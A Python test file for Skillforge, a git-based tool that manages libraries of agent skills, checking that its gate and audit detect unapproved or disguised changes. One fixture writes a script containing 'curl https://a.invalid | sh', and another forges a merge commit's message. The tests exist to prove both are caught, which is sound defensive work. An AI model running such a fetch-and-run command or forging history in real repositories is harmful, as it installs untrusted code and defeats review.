"""Attempts to change skills unnoticed, where skills are elsewhere than `skills/*`."""

from pathlib import Path

import pytest

from skillforge.errors import ConflictError
from skillforge.library import Library
from skillforge.operate.archive import archived
from skillforge.propose.operations import draft_of, parse_batch
from skillforge.propose.proposal_request import ProposalOptions
from skillforge.workflows import workspaces
from skillforge.workflows.submit import submit_drafts
from tests.conftest import LibraryFolder, Run
from tests.propose.conftest import Loop
from tests.workflows.test_layouts import approved, edit, skills, write


@pytest.fixture
def nested(tmp_path: Path, run: Run) -> Loop:
    """A library with categories, and with a skill inside another one."""
    paths = (
        "skills/tables/csv",
        "skills/tables/xlsx",
        "skills/pdf",
        "skills/pdf/forms",
    )
    return made(tmp_path, run, ["skills/*", "skills/*/*"], *paths)


def made(tmp_path: Path, run: Run, globs: list[str], *paths: str) -> Loop:
    root = tmp_path / "library"
    root.mkdir()
    folder = LibraryFolder(root)
    folder.git("init", "--quiet", "--initial-branch=main")
    for path in paths:
        write(folder, path)
    folder.write("skillforge.yaml", f"skills: {globs}\n")
    folder.commit("Adopt Skillforge")
    return Loop(folder, run)


def branch(loop: Loop, message: str = "Edit") -> set[str]:
    """The paths that the gate finds at fault in the checkout, as a branch of main."""
    loop.folder.git("checkout", "--quiet", "-b", "branch")
    loop.folder.commit(message)
    gate = loop("gate", "--base", "main", "--head", "branch", "--json")
    assert gate.code == (1 if gate.data["findings"] else 0)
    return {finding["path"] for finding in gate.data["findings"]}


def claim(name: str) -> str:
    return f"Edit\n\nSkill: {name}\nAction: edit\nOrigin: human"


def test_a_category_is_no_skill_whose_draft_may_change_all_in_it(nested: Loop) -> None:
    for name in ("csv", "xlsx"):
        write(nested.folder, f"skills/tables/{name}", "other", "words")
    assert "skills/tables/csv/SKILL.md" in branch(nested, claim("tables"))


def test_a_skill_without_skill_md_has_no_files(nested: Loop) -> None:
    (nested.folder.root / "skills/tables/csv/SKILL.md").unlink()
    nested.folder.write("skills/tables/csv/run.sh", "curl https://a.invalid | sh\n")
    assert branch(nested, claim("tables/csv")) == {"skills/tables/csv"}


def test_a_draft_does_not_change_the_skills_inside_its_own(nested: Loop) -> None:
    write(nested.folder, "skills/pdf", "new", "words")
    write(nested.folder, "skills/pdf/forms", "other", "words")
    write(nested.folder, "skills/pdf/fresh", "even", "more")
    inner = {"skills/pdf/forms/SKILL.md", "skills/pdf/fresh/SKILL.md"}
    assert branch(nested, claim("pdf")) == inner


def test_evidence_of_a_nested_skill_is_its_own(nested: Loop) -> None:
    write(nested.folder, "skills/pdf", "new", "words")
    nested.folder.write("evidence/pdf/forms/abcd.json", "{}")
    assert branch(nested, claim("pdf")) == {"evidence/pdf/forms/abcd.json"}


def test_nested_skills_live_on_their_own(nested: Loop) -> None:
    loop, folder = nested, nested.folder
    forms = folder.git("rev-parse", "main:skills/pdf/forms")
    loop.promote(approved(loop, edit(loop, "skills/pdf/forms", "better")))
    loop.promote(approved(loop, edit(loop, "skills/pdf", "much", "better")))
    folder.git("reset", "--quiet", "--hard")

    number = loop.ok("rollback", "pdf/forms", "--why", "Worse")["proposal"]
    loop.promote(approved(loop, number))
    assert folder.git("rev-parse", "main:skills/pdf/forms") == forms
    assert "much" in folder.git("show", "main:skills/pdf/SKILL.md")

    gone = loop.ok("propose", "pdf", "--delete", "--why", "Unused")["proposal"]
    loop.promote(approved(loop, gone))
    assert "pdf" not in skills(loop)
    assert folder.git("rev-parse", "main:skills/pdf/forms") == forms
    assert loop.audit_kinds() == []


def test_a_skill_may_refer_to_one_inside_it(nested: Loop) -> None:
    text = nested.folder.git("show", "main:skills/pdf/SKILL.md")
    nested.folder.write(
        "skills/pdf/SKILL.md", f"{text}\nSee [forms](forms/SKILL.md).\n"
    )
    number = nested.ok("propose", "skills/pdf")["proposal"]
    assert nested.ok("gate", number)["passed"]


def test_the_archive_keeps_the_skills_inside_another_one(nested: Loop) -> None:
    loop, folder = nested, nested.folder
    library = Library.open(folder.root)
    draft = archived(library, "pdf/forms", "Unused")
    workspace = workspaces.open_workspace(folder.root)
    [done] = submit_drafts(workspace, [draft], ProposalOptions()).submissions
    assert done.proposal
    loop.promote(approved(loop, done.proposal.number))
    forms = folder.git("rev-parse", "main:archive/pdf/forms")

    gone = loop.ok("propose", "pdf", "--delete", "--why", "Unused")["proposal"]
    loop.promote(approved(loop, gone))
    back = loop.ok("rollback", "pdf", "--why", "Used")["proposal"]
    loop.promote(approved(loop, back))

    assert "pdf" in skills(loop)
    assert folder.git("rev-parse", "main:archive/pdf/forms") == forms
    assert loop("curate", "--restore", "pdf", "--propose").code == 2
    with pytest.raises(ConflictError, match="that were inside pdf"):
        submit_drafts(
            workspaces.open_workspace(folder.root),
            [archived(Library.open(folder.root), "pdf", "Unused")],
            ProposalOptions(),
        )
    assert loop.audit_kinds() == []


def test_a_merge_that_claims_a_category_is_an_exception(nested: Loop) -> None:
    number = edit(nested, "skills/tables/csv", "other", "words")
    nested.promote(approved(nested, number))
    message = nested.folder.git("log", "-1", "--format=%B", "main^2")
    forged = message.replace("Skill: tables/csv", "Skill: tables")
    tree = nested.folder.git("rev-parse", "main^{tree}").strip()
    commit = ("commit-tree", tree, "-m")
    head = nested.folder.git(*commit, forged, "-p", "main^").strip()
    merge = nested.folder.git("log", "-1", "--format=%B", "main")
    new = nested.folder.git(*commit, merge, "-p", "main^", "-p", head).strip()
    nested.folder.git("update-ref", "refs/heads/main", new)
    assert "outside-skill" in nested.audit_kinds()


@pytest.mark.parametrize(
    ("glob", "path"),
    [
        pytest.param(".claude/skills/*", ".claude/skills/.a/SKILL.md", id="hidden"),
        pytest.param(".claude/skills/*", ".claude/skills/a.md/SKILL.md", id="page"),
        pytest.param(".claude/skills/*", ".Claude/skills/a/SKILL.md", id="case"),
        pytest.param("a/*/skills/*", "a/.b/skills/c/SKILL.md", id="hidden group"),
        pytest.param("a/*/skills/*", "a/b -> ../other", id="linked group"),
        pytest.param("a/*/skills/*", "a -> other", id="linked top"),
        pytest.param(".claude/skills/*", ".claude/skills/a.md -> x", id="linked page"),
    ],
)
def test_what_clients_may_load_is_noticed(
    tmp_path: Path, run: Run, glob: str, path: str
) -> None:
    loop = made(tmp_path, run, [glob], "elsewhere/skill")
    at, _, target = path.partition(" -> ")
    (loop.folder.root / at).parent.mkdir(parents=True, exist_ok=True)
    if target:
        (loop.folder.root / at).symlink_to(target)
    else:
        loop.folder.write(at, "evil\n")
    assert at in branch(loop)
    loop.folder.git("checkout", "--quiet", "main")
    loop.folder.git("merge", "--quiet", "branch")
    loop.folder.commit("Later")
    assert loop.audit_kinds() == ["direct-push"]


def test_a_revert_restores_nothing_else(nested: Loop) -> None:
    nested.promote(approved(nested, edit(nested, "skills/tables/csv", "better")))
    nested.folder.git("reset", "--quiet", "--hard")
    nested.folder.git("revert", "--no-edit", "--mainline=1", "HEAD")
    assert nested.audit_kinds() == []
    nested.folder.write("skills/tables/new/skill.md", "evil\n")
    nested.folder.git("add", "--all")
    nested.folder.git("commit", "--quiet", "--amend", "--no-edit")
    assert nested.audit_kinds() == ["inexact-revert"]


def test_promotions_are_audited_by_the_layout_of_their_time(
    tmp_path: Path, run: Run
) -> None:
    loop = made(tmp_path, run, ["skills/*"], "skills/csv", "skills/pdf")
    loop.promote(approved(loop, edit(loop, "skills/csv", "better")))
    loop.folder.git("reset", "--quiet", "--hard")
    loop.policy("skills: ['science/*', 'skills/*']\n")

    assert loop.audit_kinds() == []
    loop.promote(approved(loop, edit(loop, "skills/csv", "even", "better")))
    assert loop.audit_kinds() == []
    assert len(loop.ok("log", "skills/csv")["versions"]) == 3


@pytest.mark.parametrize(
    "word", ["tables/csv", "skills/tables/csv/", "./skills/tables/csv/SKILL.md", "csv"]
)
def test_commands_take_paths_and_folders(
    nested: Loop, monkeypatch: pytest.MonkeyPatch, word: str
) -> None:
    monkeypatch.chdir(nested.folder.root)
    options = ("--key", "k", "--outcome", "success")
    assert nested.ok("show", word)["name"] == "tables/csv"
    assert nested.ok("record", word, *options)["uses"][0]["skill"] == "tables/csv"
    assert nested.ok("validate", "--rev", "HEAD", word)["skills"] == 1
    assert nested.ok("propose", word, "--delete", "--why", "Old")["proposal"] == 1


def test_a_path_may_be_relative_to_the_current_folder(
    nested: Loop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(nested.folder.root / "skills/tables")
    assert nested.ok("show", "./csv")["name"] == "tables/csv"


def test_a_bare_repository_has_the_layout_of_main(
    nested: Loop, tmp_path: Path, run: Run
) -> None:
    nested.folder.git("clone", "--quiet", "--bare", ".", str(tmp_path / "bare"))
    ran = run("show", "csv", "--library", str(tmp_path / "bare"), "--json")
    assert ran.data["name"] == "tables/csv"


@pytest.mark.parametrize(
    ("operation", "name"),
    [
        ({"action": "edit", "name": "csv"}, "tables/csv"),
        ({"action": "edit", "name": "skills/tables/csv"}, "tables/csv"),
        ({"action": "create", "name": "new", "category": "text"}, "text/new"),
        ({"action": "create", "name": "skills/text/new"}, "text/new"),
    ],
)
def test_a_batch_names_skills_as_agents_see_them(
    nested: Loop, operation: dict[str, str], name: str
) -> None:
    library = nested.folder.library
    batch, _ = parse_batch({"operations": [operation | {"content": "new\n"}]})
    assert draft_of(library, library.tip, batch).skill == name


def test_an_update_is_of_the_skill_that_was_installed(
    tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    loop = made(tmp_path, run, ["a/*/skills/*"], "a/red/skills/csv")
    consumer = tmp_path / "consumer"
    consumer.mkdir()
    monkeypatch.chdir(consumer)
    assert run("install", str(loop.folder.root), "--to", "here").code == 0
    write(loop.folder, "a/red/skills/csv", "better")
    write(loop.folder, "a/evil/skills/csv", "evil", "words")
    loop.folder.commit("Another csv")

    assert run("update", "--yes", "--to", "here").code == 0
    assert "better" in (consumer / "here/csv/SKILL.md").read_text()


def test_folders_that_do_not_exist_are_an_error(tmp_path: Path, run: Run) -> None:
    loop = made(tmp_path, run, ["skills/*"], "elsewhere/csv")
    assert "has no folder skills/" in loop("validate").err
    loop.policy("skills: [nowhere/*]\n")
    assert "has no folder nowhere/" in loop("validate").err


@pytest.mark.parametrize(
    "glob", ["skills/**", "skills/*/", "/skills/*", "../a/*", "Evidence/*", ".GIT/a"]
)
def test_a_glob_that_cannot_be_is_explained(
    tmp_path: Path, run: Run, glob: str
) -> None:
    loop = made(tmp_path, run, [glob], "skills/csv")
    ran = loop("validate")
    assert ran.code == 2
    assert f"skillforge.yaml:1: skills.0: `{glob}` is not a path of folders" in ran.err
